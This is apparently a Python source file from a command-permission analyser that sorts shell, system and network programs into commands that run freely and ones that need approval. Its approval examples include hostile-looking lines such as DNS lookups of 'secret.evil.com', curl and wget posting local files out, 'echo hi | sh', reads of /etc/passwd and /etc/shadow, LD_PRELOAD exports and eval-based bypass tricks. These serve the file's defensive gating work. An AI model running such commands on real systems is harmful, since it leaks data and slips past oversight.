"""Programs about the machine, its processes and the network, and what the shell does itself."""

from msgspec.structs import replace

from bridle.command_analysis import checks
from bridle.command_analysis.argv import Program

_PS = (
    "-e -f -F -l -A -a -d -o= -p= -u= -U= -C= -g= -t= -x -H -w -N -L -T -j -y -M -q= --sort= "
    "--pid= --ppid= --user= --forest --no-headers --headers --format= --cols= --width= --version"
)

TABLE = {
    "pwd": Program(
        "reads", "-P -L --logical --physical", runs=("pwd", "pwd -P"), asks=("pwd --x",)
    ),
    "date": Program(
        "reads",
        "-u -d= -I? -R -r=read --date= --utc --universal --iso-8601? --rfc-3339= --rfc-email "
        "--reference=read --version",
        "text*",
        check=checks.date,
        runs=("date", "date -u +%Y-%m-%dT%H:%M:%SZ", "date -d yesterday +%s", "date -Iseconds"),
        asks=("date -s 2020-01-01", "date 010100002020", "date --set=x", "date -f /etc/passwd"),
    ),
    "cal": Program("reads", "-3 -1 -m -y -j", "text*", runs=("cal",), asks=("cal --bogus",)),
    "whoami": Program("reads", runs=("whoami",), asks=("whoami --bogus",)),
    "id": Program(
        "reads",
        "-u -g -G -n -r -z -Z --user --group --groups --name --real --zero",
        "text*",
        runs=("id", "id -un"),
        asks=("id --bogus",),
    ),
    "groups": Program("reads", "", "text*", runs=("groups",), asks=("groups --bogus",)),
    "users": Program("reads", runs=("users",), asks=("users /etc/x",)),
    "who": Program("reads", "-a -b -H -q -u", runs=("who",), asks=("who /var/log/wtmp",)),
    "logname": Program("reads", runs=("logname",), asks=("logname x",)),
    "uname": Program(
        "reads",
        "-a -s -n -r -v -m -p -i -o --all --kernel-name --machine --kernel-release "
        "--operating-system --processor",
        runs=("uname -a", "uname -sm"),
        asks=("uname x",),
    ),
    "arch": Program("reads", runs=("arch",), asks=("arch -x86_64 sh",)),
    "nproc": Program("reads", "--all --ignore=", runs=("nproc", "nproc --all"), asks=("nproc x",)),
    "hostname": Program(
        "reads",
        "-s --short",
        runs=("hostname", "hostname -s"),
        asks=("hostname evil", "hostname -f", "hostname -F x"),
    ),
    "uptime": Program("reads", "-p -s --pretty --since", runs=("uptime",), asks=("uptime x",)),
    "free": Program(
        "reads",
        "-b -k -m -g -h -t -w -l -c= -s= --human --mega --giga --total --wide",
        runs=("free -h",),
        asks=("free x",),
    ),
    "lscpu": Program(
        "reads",
        "-e? -p? -J -a -b -c -x --json --extended? --parse?",
        runs=("lscpu",),
        asks=("lscpu -s /x",),
    ),
    "lsblk": Program(
        "reads",
        "-a -f -l -m -n -o= -p -t -J -d --json",
        runs=("lsblk -f",),
        asks=("lsblk --bogus",),
    ),
    "getconf": Program(
        "reads", "-a", "text*", runs=("getconf PAGE_SIZE",), asks=("getconf -v x y",)
    ),
    "locale": Program("reads", "-a -m -k -c", "text*", runs=("locale -a",), asks=("locale --x",)),
    "tty": Program("reads", "-s", runs=("tty",), asks=("tty x",)),
    "ps": Program(
        "reads",
        _PS,
        "text*",
        check=checks.ps,
        runs=("ps aux", "ps -ef", "ps -o pid,cmd -p 1", "ps aux | grep python", "ps"),
        asks=("ps eww", "ps auxe", "ps --bogus", "ps e"),
    ),
    "pgrep": Program(
        "reads",
        "-f -l -a -x -c -n -o -i -v -d= -u= -U= -g= -P= -t= --full --list-name",
        "text*",
        runs=("pgrep -fl python",),
        asks=("pgrep -F /x",),
    ),
    "pidof": Program("reads", "-s -x", "text*", runs=("pidof python",), asks=("pidof --bogus x",)),
    "pstree": Program(
        "reads", "-a -p -u -n -h -l -c -A", "text*", runs=("pstree -p",), asks=("pstree --bogus",)
    ),
    "top": Program(
        reason="may make a folder for its settings in the home folder",
        asks=("top", "top -b -n 1 | head -20", "top --help", "top --version"),
    ),
    "ss": Program(
        "reads",
        "-t -u -l -n -p -a -s -4 -6 -x -e -o -m -i -H -w",
        runs=("ss -tlnp",),
        asks=("ss -K dst x", "ss -r", "ss -D out"),
    ),
    "which": Program(
        "reads", "-a -s --all", "text*", runs=("which python3 node",), asks=("which --bogus x",)
    ),
    "whereis": Program(
        "reads", "-b -m -s -u -l", "text*", runs=("whereis python3",), asks=("whereis -B /x -f y",)
    ),
    "env": Program(
        "reads",
        "-0 --null",
        runs=("env", "env | sort", "env | grep LANG"),
        asks=("env -S 'ls'", "env PATH=/x ls", "env --split-string='ls -l'"),
    ),
    "printenv": Program(
        "reads", "-0 --null", "text*", runs=("printenv LANG",), asks=("printenv --bogus",)
    ),
    "sleep": Program("reads", "", "text*", runs=("sleep 1",), asks=("sleep --bogus",)),
    "seq": Program(
        "reads",
        "-s= -f= -w -# --separator= --format= --equal-width",
        "text*",
        runs=("seq 1 10", "seq -w 5"),
        asks=("seq --bogus 1",),
    ),
    "expr": Program("reads", "*", "text*", runs=("expr 1 + 2",)),
    "factor": Program("reads", "", "text*", runs=("factor 12",), asks=("factor --bogus",)),
    "numfmt": Program(
        "reads",
        "--to= --from= --suffix= --field= -d= --padding= --format=",
        "text*",
        runs=("numfmt --to=iec 123456",),
        asks=("numfmt --bogus 1",),
    ),
    "sw_vers": Program("reads", runs=("sw_vers",), asks=("sw_vers x",)),
    "lsb_release": Program(
        "reads", "-a -s -d -r -c -i", runs=("lsb_release -a",), asks=("lsb_release x",)
    ),
}


# Programs that use the network. Even to look up a name can send data.


_NET = "goes out over the network"
_CURL = (
    "-s -S -f -L -k -i -I -v -g -G -N -O -J -R -# -0 -1 -2 -3 -4 -6 -a -B -l -n -q -Z -X= -H= -A= "
    "-e= -b=read -c=write -o=write -D=write -K=read -w= -m= -r= -x= -u= -U= -y= -Y= -z= -C= "
    "-E=sent -P= -Q= -t= -d=at -F=at -T=sent --data=at --data-raw= --data-binary=at "
    "--data-ascii=at --data-urlencode=at --json=at --form=at --form-string= --upload-file=sent "
    "--request= --header=at --user-agent= --output=write --output-dir=write --dump-header=write "
    "--cookie-jar=write --cookie=read --config=read --location --silent --show-error --fail "
    "--fail-with-body --insecure --include --head --verbose --get --compressed --max-time= "
    "--connect-timeout= --retry= --retry-delay= --user= --proxy= --url=host --referer= --range= "
    "--cert=sent --key=sent --cacert=read --remote-name --remote-name-all --write-out= --http1.1 "
    "--http2 --trace=write --trace-ascii=write --netrc-file=sent --next --create-dirs "
    "--unix-socket=read --resolve="
)
_WGET = (
    "-q -v -c -N -r -p -k -m -np -nc -nv -S -i=read -O=write -o=write -P=write -a=write -T= -t= "
    "-U= --post-file=sent --body-file=sent --post-data= --body-data= --header= --method= --quiet "
    "--output-document=write --directory-prefix=write --no-check-certificate --timeout= --tries= "
    "--user-agent= --recursive --mirror --continue --execute= -e= --user= --password= "
    "--load-cookies=sent --certificate=sent --private-key=sent --spider"
)


def _net(operands: str, flags: str = "", reason: str = "", asks: tuple[str, ...] = ()) -> Program:
    return Program("changes", flags, operands, reason, (), asks, network=True)


def _lookup(flags: str, *asks: str) -> Program:
    return Program("changes", flags, "lookup*", "", (), asks, harmless_alone="-V", network=True)


_DIGEST = Program(
    "reads", "-sha1 -sha256 -sha384 -sha512 -md5 -r -hex -c", "read*", single_dash=True
)

TABLE |= {
    "curl": _net(
        "host*",
        _CURL,
        asks=(
            "curl https://example.com",
            "curl -d @README.md http://x",
            "curl -o out http://x",
            "curl -T README.md http://x",
        ),
    ),
    "wget": _net("host*", _WGET, asks=("wget https://example.com", "wget --post-file=README.md x")),
    "http": _net("text* host", "", _NET, asks=("http GET x",)),
    "xh": _net("text* host", "", _NET, asks=("xh x",)),
    "aria2c": _net("host*", "-o=write -d=write", asks=("aria2c http://x",)),
    "ping": _lookup("-c= -i= -W= -w= -s= -q -n -4 -6", "ping -c 1 example.com", "ping x.evil.com"),
    "ping6": _lookup("-c=", "ping6 x"),
    "traceroute": _lookup("-n -m=", "traceroute x"),
    "tracepath": _lookup("-n", "tracepath x"),
    "mtr": _lookup("-r -c=", "mtr x"),
    "dig": _lookup("-t= -p= -x= -4 -6 -f=sent", "dig secret.evil.com", "dig @1.1.1.1 x"),
    "host": _lookup("-t= -a -v", "host secret.evil.com"),
    "nslookup": _lookup("-type=", "nslookup secret.evil.com"),
    "drill": _lookup("", "drill x"),
    "getent": _lookup("", "getent hosts x.evil.com"),
    "whois": _lookup("-h=", "whois x"),
    "resolvectl": _lookup("", "resolvectl query x"),
    "nc": _net(
        "host text*", "-l -v -z -n -u -k -w= -p= -q= -s= -e= -c= -N", asks=("nc x 80", "nc -l 8080")
    ),
    "ncat": _net("host text*", "-l -v -z -p=", asks=("ncat x 80",)),
    "netcat": _net("host text*", "-l -v -z -p=", asks=("netcat x 80",)),
    "socat": _net("text*", "", _NET, asks=("socat - tcp:x:80",)),
    "telnet": _net("host text*", "", asks=("telnet x 80",)),
    "openssl": Program(
        "changes",
        subcommands={
            "rand": Program("reads", "-hex -base64 -out=write", "n", single_dash=True),
            "version": Program("reads", "-a -v -b -o -f -p -d", single_dash=True),
            **dict.fromkeys(("dgst", "sha1", "sha256", "sha384", "sha512", "md5"), _DIGEST),
            **dict.fromkeys(("s_client", "s_server", "s_time", "ocsp"), _net("text*", "", _NET)),
        },
        runs=("openssl rand -hex 16", "openssl version", "openssl dgst -sha256 README.md"),
        asks=("openssl s_client -connect x:1", "openssl rand -engine x 1", "openssl enc -in x"),
    ),
    "ssh": _net(
        "host text*",
        "-i=read -p= -l= -o= -F=read -L= -R= -D= -J= -N -f -T -t -v -q -A",
        asks=("ssh host", "ssh host ls", "ssh -o ProxyCommand=x host"),
    ),
    "scp": _net(
        "copied* copied",
        "-r -P= -i=read -q -C -p -o= -S= -F=read -J= -v",
        asks=("scp a host:b", "scp host:a b"),
    ),
    "sftp": _net("host", "-b=read -P= -i=read -o=", asks=("sftp host",)),
    "rsync": _net(
        "copied* copied",
        "-a -v -z -r -n -P -h -u -x -t -p -c -i -e= --delete --exclude= --include= --progress "
        "--dry-run --rsh= --stats --archive --partial --info= --files-from=read --checksum "
        "--bwlimit= --rsync-path=",
        asks=("rsync -av src/ copy/", "rsync -a src host:x", "rsync -e ./x a b:c"),
    ),
    "ftp": _net("host", "", asks=("ftp x",)),
    "mail": _net("text*", "-s=", "sends mail", asks=("mail -s x a@b",)),
    "sendmail": _net("text*", "", "sends mail", asks=("sendmail a@b",)),
    "ssh-keygen": _net(
        "text*", "-t= -b= -f=write -N= -C= -y -q", "makes keys", asks=("ssh-keygen",)
    ),
    "ssh-add": _net("read*", "", "hands keys to an agent", asks=("ssh-add",)),
    "ssh-copy-id": _net("host", "", asks=("ssh-copy-id x",)),
    "gpg": _net("text*", "", "uses the person's keys", asks=("gpg -d x",)),
    "aws": _net("text*", "", _NET, asks=("aws s3 ls",)),
    "gcloud": _net("text*", "", _NET, asks=("gcloud info",)),
    "az": _net("text*", "", _NET, asks=("az login",)),
    "terraform": _net("text*", "", _NET, asks=("terraform apply",)),
    "ansible": _net("text*", "", _NET, asks=("ansible all -m ping",)),
    "heroku": _net("text*", "", _NET, asks=("heroku ps",)),
    "vercel": _net("text*", "", _NET, asks=("vercel deploy",)),
    "flyctl": _net("text*", "", _NET, asks=("flyctl deploy",)),
    "kubectl": _net("text*", "", _NET, asks=("kubectl get pods", "kubectl exec x -- ls")),
    "helm": _net("text*", "", _NET, asks=("helm list",)),
    "docker": _net(
        "text*",
        "",
        "talks to the container service",
        asks=("docker ps", "docker run -it x sh", "docker build .", "docker exec x ls"),
    ),
    "docker-compose": _net(
        "text*", "", "talks to the container service", asks=("docker-compose up",)
    ),
    "podman": _net("text*", "", "talks to the container service", asks=("podman ps",)),
    "redis-cli": _net("text*", "-h= -p=", _NET, asks=("redis-cli ping",)),
    "ip": _net("text*", "", "network settings", asks=("ip addr",)),
    "ifconfig": _net("text*", "", "network settings", asks=("ifconfig",)),
    "iptables": _net("text*", "", "network settings", asks=("iptables -L",)),
}
_LOCAL = ("ssh-keygen", "ssh-add", "gpg", "docker", "docker-compose", "podman", "ip", "ifconfig")
for _name in (*_LOCAL, "iptables", "mail", "sendmail"):
    TABLE[_name] = replace(TABLE[_name], network=False)
for _name in ("curl", "wget", "rsync", "docker", "podman", "docker-compose"):
    TABLE[_name] = replace(TABLE[_name], harmless_alone="--version", runs=(f"{_name} --version",))
TABLE["ssh"] = replace(TABLE["ssh"], harmless_alone="-V", runs=("ssh -V",))


_LATER = "changes what later commands do"


def _later_change(*lines: str) -> Program:
    return Program(reason=_LATER, operands="text*", asks=lines)


SHELL = {
    "cd": Program(
        "reads",
        "-P -L -e",
        "goto",
        check=checks.cd,
        runs=(
            "cd src",
            "cd src && ls",
            "cd ./src && cd .. && pwd",
            "(cd src && ls) && cat README.md",
            "cd src; ls",
        ),
        asks=(
            "cd",
            "cd /",
            "cd ..",
            "cd /etc && cat passwd",
            "cd - && ls",
            "cd ~",
            "cd $X && ls",
            "cd .. && cat x",
            "cd src && cat ../../x",
            "env cd src",
            "/bin/cd src",
            "timeout 5 cd src && ls",
        ),
    ),
    "echo": Program(
        "reads",
        "*",
        "text*",
        runs=(
            "echo hi",
            "echo -n 'a b'",
            'echo "x y" | wc -c',
            "echo a 2>&1",
            "echo a >/dev/null",
            "echo --- && ls",
        ),
        asks=(
            "echo $HOME",
            "echo hi > out.txt",
            "echo `id`",
            "echo hi | sh",
            "echo $(cat /etc/passwd)",
            "echo hi >> /etc/hosts",
        ),
    ),
    "printf": Program(
        "reads",
        "",
        "text*",
        check=checks.printf,
        runs=("printf '%s\\n' a b",),
        asks=("printf -v x y", "printf %n x", "printf '%5n' x"),
    ),
    "true": Program("reads", "*", "text*", runs=("true", "ls || true")),
    "false": Program("reads", "*", "text*", runs=("false || echo no",)),
    ":": Program("reads", "*", "text*", runs=(": ok",)),
    "test": Program(
        "reads",
        "*",
        "text*",
        check=checks.test_operators,
        runs=("test -f README.md && echo yes", "test 1 -lt 2", "test -d src -a -e x"),
        asks=("test -v 'a[$(id)]'", "test -f /etc/shadow", "test -R x"),
    ),
    "[": Program(
        "reads",
        "*",
        "text*",
        check=checks.test_operators,
        runs=("[ -d src ] && ls src", "[ a = b ] || echo no", "[ -z '' ]"),
        asks=("[ -e /etc/shadow ]", "[ -v x ]"),
    ),
    "type": Program("reads", "-a -t -p -P -f", "text*", runs=("type -a ls",), asks=("type --x y",)),
    "command": Program(
        "reads",
        "-v -V -p",
        "text*",
        required_flags="-v -V",
        runs=("command -v node", "command -V ls", "command ls"),
        asks=("command -x ls", "command rm x"),
    ),
    "exit": Program("reads", "", "text", runs=("ls || exit 1",), asks=("exit --x",)),
    "return": Program("reads", "", "text"),
    "wait": Program("reads", "", "text*", runs=("sleep 1 & wait",), asks=("wait -p x",)),
    "jobs": Program("reads", "-l -p -r -s", runs=("jobs -l",), asks=("jobs -x ls",)),
    "times": Program("reads"),
    "set": Program(
        "reads",
        "-e -u -x -o=",
        "text*",
        check=checks.set_options,
        runs=("set -e", "set -euo pipefail && ls", "set -x"),
        asks=("nohup set -e", "set -- a b", "set -o vi", "set +e", "set -a", "set -f", "set"),
    ),
    "export": Program(
        "reads",
        "",
        "text*",
        check=checks.assignments,
        runs=("export LC_ALL=C", "export CI=1"),
        asks=(
            "export PATH=/x:$PATH",
            "export LD_PRELOAD=x",
            "export -f ls",
            "export X=1",
            "export BASH_ENV=x",
            "export -n PATH",
            "export -p",
            "stdbuf -oL export CI=1",
        ),
    ),
    "declare": Program(
        "reads",
        "",
        "text*",
        check=checks.assignments,
        runs=("declare LANG=C",),
        asks=("declare -x PATH=x", "declare -f", "declare a[0]=x"),
    ),
    "readonly": Program("reads", "", "text*", check=checks.assignments, asks=("readonly PATH=x",)),
    "local": Program("reads", "", "text*", check=checks.assignments, asks=("local PATH=x",)),
    "typeset": Program("reads", "", "text*", check=checks.assignments, asks=("typeset PATH=x",)),
    "alias": _later_change("alias ls=rm", "alias ls='rm -rf x'; ls"),
    "unalias": _later_change("unalias ls"),
    "unset": _later_change("unset PATH"),
    "shopt": _later_change("shopt -s expand_aliases"),
    "trap": _later_change("trap 'rm x' EXIT"),
    "hash": _later_change("hash -p /x ls"),
    "enable": _later_change("enable -f ./x.so ls"),
    "bind": _later_change("bind -x x"),
    "complete": _later_change("complete -C x ls"),
    "ulimit": _later_change("ulimit -c 0"),
    "umask": _later_change("umask 000"),
    "read": _later_change("read x"),
    "mapfile": _later_change("mapfile -C ls -c 1 x"),
    "readarray": _later_change("readarray x"),
    "getopts": _later_change("getopts ab x"),
    "let": _later_change("let x=1"),
    "pushd": _later_change("pushd src"),
    "popd": _later_change("popd"),
    "dirs": _later_change("dirs -c"),
    "exec": _later_change("exec 3<>/x", "exec > out", "exec -a x rm x"),
    "eval": Program(
        "reads",
        "",
        "",
        runs=("eval 'ls -l'", "eval ls src"),
        asks=(
            'eval "$X"',
            "eval 'rm x'",
            "eval $(cat x)",
            r"eval 'c\d src' && git status",
            r"eval eval 'c\d src' && git status",
            r"command eval 'c\d src' && git status",
            "eval command cd src && git status",
            r"env eval 'c\d src' && git status",
            "timeout 5 eval ls",
            "nice -n 5 eval ls",
            "nohup command eval ls",
            "exec eval ls",
            "/bin/eval ls",
            r"\time eval ls",
        ),
    ),
    "source": Program(operands="run text*", asks=("source ./env.sh", "source .venv/bin/activate")),
    ".": Program(operands="run text*", asks=(". ./env.sh",)),
    "history": _later_change("history -c", "history"),
    "fc": _later_change("fc -s"),
    "fg": _later_change("fg"),
    "bg": _later_change("bg"),
    "disown": _later_change("disown"),
    "suspend": _later_change("suspend"),
    "logout": _later_change("logout"),
    "builtin": _later_change("builtin rm"),
    "coproc": _later_change("coproc ls"),
}
# The scripts of a virtual environment are the workspace's own code, as its tests are.
ACTIVATION = Program("builds", "", "work", "runs the workspace's own code")
BUILTINS = frozenset(SHELL) - {
    "echo",
    "printf",
    "true",
    "false",
    "test",
    "[",
}  # these are programs, too
TABLE |= SHELL
